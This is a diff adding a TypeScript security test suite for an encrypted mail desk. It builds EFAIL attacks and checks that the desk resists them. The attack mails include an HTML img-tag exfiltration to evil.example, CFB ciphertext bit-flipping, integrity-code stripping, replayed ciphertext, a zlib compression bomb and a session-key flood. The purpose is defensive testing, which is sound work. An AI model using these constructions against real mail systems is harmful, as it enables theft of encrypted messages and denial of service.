@@ -1,0 +1,258 @@
+/** Attacks on encryption: what another person had sealed to the desk is not got out of it (mail.md §2.1 to §2.4, §2.11, §2.14, §2.15). */
+import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
+import { TAG } from '../../src/openpgp/packets.ts'
+import { makeSequoia } from '../support/people-sq.ts'
+import { describeWith } from '../support/requires.ts'
+import { deskCertificate } from '../support/world.ts'
+import { encryptedMail, encryptedParts, lines, mixed, textPart } from '../unit/reading/material.ts'
+import { ADDRESSES, type Cast, DESK_ADDRESS, makeCast } from './cast.ts'
+import { changed } from './ciphertext.ts'
+import { ATTACK, head, mail, openScene, payload, plainMail, type Scene, SECRET } from './scene.ts'
+
+describeWith(['gpg'], 'attacks on encryption', () => {
+  let cast: Cast
+  let scene: Scene
+  beforeAll(async () => {
+    cast = await makeCast()
+  })
+  afterEach(() => {
+    scene.world.close()
+  })
+  afterAll(() => cast.close())
+
+  /** What Alice sealed for the desk, taken on the way: it never arrived. Each has a session key of its own. */
+  const steal = (): Promise<string> =>
+    cast.seal(payload('alice', `new ${SECRET}`, `Another ${SECRET}.`), 'alice')
+  const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
+  const sealedEntity = (armored: string): string =>
+    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n${encryptedParts(armored)}`
+
+  async function nobodyLearns(): Promise<void> {
+    expect(await scene.harm()).toEqual([])
+    for (const who of ['grace', 'linus', 'mallory'] as const) {
+      expect((await scene.mailsTo(who)).join('\n')).not.toContain(SECRET)
+    }
+  }
+
+  it('1 EFAIL, direct exfiltration: ciphertext between pieces of HTML is not opened', async () => {
+    scene = await openScene(cast)
+    const open = html('<img src="http://evil.example/')
+    const close = html('">')
+    const shapes: readonly ((stolen: string) => string[])[] = [
+      (stolen) => [open, sealedEntity(stolen), close],
+      (stolen) => [open, sealedEntity(stolen)],
+      (stolen) => [
+        open,
+        `Content-Type: application/octet-stream; name=a.asc\r\n\r\n${stolen}`,
+        close
+      ],
+      (stolen) => [open, textPart(stolen), close],
+      (stolen) => [html(`<img src="http://evil.example/${stolen}">`)]
+    ]
+    for (const shape of shapes) {
+      await scene.attack(mail('mallory', mixed(shape(await steal()))))
+    }
+    await nobodyLearns()
+    for (const words of await scene.mailsTo('grace')) {
+      // HTML goes along inside of the original alone, as a file.
+      const [shown = ''] = words.split('Content-Type: message/rfc822')
+      expect(shown).not.toContain('text/html')
+    }
+  })
+
+  it('partial encryption: ciphertext beside words of the attacker is not shown as theirs', async () => {
+    scene = await openScene(cast)
+    const shapes: readonly ((stolen: string) => string)[] = [
+      (stolen) => mixed([textPart(`${ATTACK} reads:`), sealedEntity(stolen)]),
+      (stolen) => mixed([sealedEntity(stolen), textPart(`${ATTACK} footer`)]),
+      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), sealedEntity(stolen)]),
+      (stolen) => textPart(`${ATTACK}\r\n${stolen}`),
+      (stolen) => textPart(`${stolen}\r\n${ATTACK}`),
+      (stolen) =>
+        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${sealedEntity(stolen)}`]),
+      (stolen) =>
+        mixed([
+          textPart(ATTACK),
+          `Content-Type: application/octet-stream; name=a.txt.asc\r\n\r\n${stolen}`
+        ])
+    ]
+    for (const shape of shapes) await scene.attack(mail('mallory', shape(await steal())))
+    await nobodyLearns()
+  })
+
+  it('2 EFAIL, malleability: changed ciphertext gives no plaintext at all', async () => {
+    scene = await openScene(cast)
+    const flip = async (at: number): Promise<string> =>
+      changed(await steal(), (packet) => {
+        if (packet.tag !== TAG.encryptedIntegrity) return [packet]
+        const body = Buffer.from(packet.body)
+        // A known beginning exchanged for another one, as the CFB gadget does.
+        for (let index = 0; index < 4; index += 1) body[at + index] = (body.at(at + index) ?? 0) ^ 5
+        return [{ tag: packet.tag, body }]
+      })
+    const withBody = async (tag: number, from: number, to?: number): Promise<string> =>
+      changed(await steal(), (packet) =>
+        packet.tag === TAG.encryptedIntegrity
+          ? [{ tag, body: packet.body.subarray(from, to) }]
+          : [packet]
+      )
+    for (const armored of [
+      await flip(20),
+      await flip(60),
+      await flip(90),
+      // The last 22 bytes are the integrity code: gone, and gone with it the kind of packet that has one.
+      await withBody(TAG.encryptedIntegrity, 0, -22),
+      await withBody(TAG.encryptedNoIntegrity, 1, -22),
+      await withBody(TAG.encryptedNoIntegrity, 1)
+    ]) {
+      await scene.attack(encryptedMail(armored, head('mallory')))
+      expect(scene.disposition()).toBe('case-opened')
+    }
+    await nobodyLearns()
+    expect((await scene.mailsTo('grace')).join('\n')).toContain('could NOT be opened')
+  })
+
+  it('2 EFAIL, malleability: a message that never had an integrity code is not opened', async () => {
+    scene = await openScene(cast)
+    const words = payload('mallory', 'x', ATTACK)
+    const old = await cast.gpg(
+      ['--rfc2440', '--disable-mdc', '--armor', '--encrypt', '-r', `<${DESK_ADDRESS}>`],
+      words
+    )
+    const unprotected = changed(old.toString(), ({ tag, body }) => [
+      tag === TAG.encryptedIntegrity ? { tag: TAG.encryptedNoIntegrity, body } : { tag, body }
+    ])
+    await scene.attack(encryptedMail(unprotected, head('mallory')))
+    expect((await scene.mailsTo('grace')).join('\n')).not.toContain(ATTACK)
+    expect(await scene.harm()).toEqual([])
+  })
+
+  it('3 decryption oracle: the answer is the same whether a mail could be opened or not', async () => {
+    scene = await openScene(cast)
+    const seal = (): Promise<string> => cast.seal(payload('mallory', ATTACK, ATTACK))
+    const withData = async (change: (body: Buffer) => Buffer): Promise<string> =>
+      changed(await seal(), ({ tag, body }) => [
+        { tag, body: tag === TAG.encryptedIntegrity ? change(body) : body }
+      ])
+    // Each with a session key of its own.
+    const mails = [
+      await seal(),
+      await withData((body) => body.subarray(0, -1)),
+      await withData((body) => Buffer.from([9, ...body.subarray(1)])),
+      await cast.seal(`${ATTACK} without a header`),
+      await cast.seal(`Content-Type: multipart/mixed; boundary=x\r\n\r\n--y`)
+    ]
+    const answers = new Set<string>()
+    for (const [index, armored] of mails.entries()) {
+      const from = `eve${index}@evil.example`
+      await scene.attack(encryptedMail(armored, head(`<${from}>`, 'a subject')))
+      const answer = scene.world.accepted.filter(({ to }) => to === from)
+      expect(answer).toHaveLength(1)
+      const [raw = ''] = answer.map((each) => each.raw.toString())
+      const text = raw.slice(raw.indexOf('Thank you for writing'), raw.indexOf('Policy:'))
+      expect(text).not.toBe('')
+      answers.add(text.replaceAll(/ACME-2026-\d{4}/g, 'TAG'))
+    }
+    expect(answers.size).toBe(1)
+    expect(await scene.harm()).toEqual([])
+  })
+
+  it('4 replayed ciphertext: what Alice sealed opens no case of another person', async () => {
+    scene = await openScene(cast)
+    const [arrived] = scene.world.rows<{ raw: Uint8Array }>('SELECT raw FROM arrival_bytes')
+    const text = Buffer.from(arrived?.raw ?? []).toString('latin1')
+    const [armored = ''] =
+      /-----BEGIN PGP MESSAGE-----[^]*-----END PGP MESSAGE-----/.exec(text) ?? []
+    expect(armored).not.toBe('')
+    await scene.attack(encryptedMail(armored, head('mallory')))
+    expect(scene.disposition()).toBe('reused-ciphertext')
+    // The same session key packet twice, in another framing.
+    await scene.attack(
+      encryptedMail(
+        changed(armored, (packet) =>
+          packet.tag === TAG.publicKeySession ? [packet, packet] : [packet]
+        ),
+        head('mallory')
+      )
+    )
+    expect(scene.disposition()).toBe('reused-ciphertext')
+    await nobodyLearns()
+    expect(await scene.mailsTo('mallory')).toEqual([])
+  })
+
+  it('4 replayed ciphertext: before it arrives, its inside gives the lie to its new sender', async () => {
+    scene = await openScene(cast)
+    await scene.attack(encryptedMail(await steal(), head('mallory')))
+    expect(scene.disposition()).toBe('contradicts-sender')
+    const reply = await cast.seal(
+      payload(
+        'grace',
+        'Re: [ACME-2026-0002]',
+        'case: ACME-2026-0002\r\n\r\n/reply <<\r\nWhat is it?\r\n>>'
+      ),
+      'grace'
+    )
+    await scene.attack(encryptedMail(reply, head('grace')))
+    for (const who of ['grace', 'linus', 'mallory'] as const) {
+      expect((await scene.mailsTo(who)).join('\n')).not.toContain(SECRET)
+    }
+  })
+
+  it('11 signing oracle: nothing that the desk signs repeats what a stranger wrote', async () => {
+    scene = await openScene(cast)
+    const more = [`Reply-To: "${ATTACK}" <victim@x.example>`, `X-Loop: ${ATTACK}`]
+    const fields = head(`"${ATTACK}" <mallory@evil.example>`, ATTACK, more)
+    await scene.attack(`${lines(...fields)}${textPart(ATTACK)}\r\n`)
+    const answers = scene.world.accepted.filter(({ to }) => to === ADDRESSES.mallory)
+    expect(answers.map(({ raw }) => /multipart\/signed/.test(raw.toString()))).toEqual([true])
+    expect(await scene.harm()).toEqual([])
+    expect(scene.world.accepted.some(({ to }) => to.includes('victim'))).toBe(false)
+  })
+
+  it('14 compression bomb: it is not opened, and the next mail is served', async () => {
+    scene = await openScene(cast, { limits: { mailBytes: 2_000_000 } })
+    const zeros = Buffer.alloc(80 * 2 ** 20, 'a')
+    const bomb = await cast.gpg(
+      ['--compress-algo', 'zlib', '-z', '9', '--armor', '--encrypt', '-r', `<${DESK_ADDRESS}>`],
+      zeros
+    )
+    await scene.attack(encryptedMail(bomb.toString(), head('mallory')))
+    expect(scene.disposition()).toBe('case-opened')
+    expect((await scene.mailsTo('grace')).join('\n')).toContain('could NOT be opened')
+    await scene.attack(plainMail('mallory', 'the next one'))
+    expect((await scene.mailsTo('grace')).join('\n')).toContain('the next one')
+  })
+
+  it('15 flood of session keys: none of them is tried, and the next mail is served', async () => {
+    scene = await openScene(cast, { limits: { mailBytes: 4_000_000 } })
+    const flood = changed(await steal(), (packet) =>
+      packet.tag === TAG.publicKeySession ? Array.from({ length: 5000 }, () => packet) : [packet]
+    )
+    await scene.attack(encryptedMail(flood, head('mallory')))
+    await nobodyLearns()
+    expect((await scene.mailsTo('grace')).join('\n')).toContain('could NOT be opened')
+    await scene.attack(plainMail('mallory', 'the next one'))
+    expect((await scene.mailsTo('grace')).join('\n')).toContain('the next one')
+  })
+})
+
+describeWith(['gpg', 'sq'], 'attacks on encryption with another program', () => {
+  it('4 replayed ciphertext: what Sequoia sealed is known again, too', async () => {
+    const cast = await makeCast()
+    const sq = await makeSequoia({ name: 'Bob', address: 'bob@reporter.example' })
+    await sq.importKey(await deskCertificate())
+    const scene = await openScene(cast)
+    try {
+      const sealed = await sq.encrypt(Buffer.from(textPart(`Bob's ${SECRET}`)), DESK_ADDRESS, false)
+      await scene.attack(encryptedMail(sealed, head('<bob@reporter.example>')))
+      expect(scene.disposition()).toBe('case-opened')
+      await scene.attack(encryptedMail(sealed, head('mallory')))
+      expect(scene.disposition()).toBe('reused-ciphertext')
+      expect(await scene.mailsTo('mallory')).toEqual([])
+    } finally {
+      scene.world.close()
+      await sq.close()
+      await cast.close()
+    }
+  })
+})
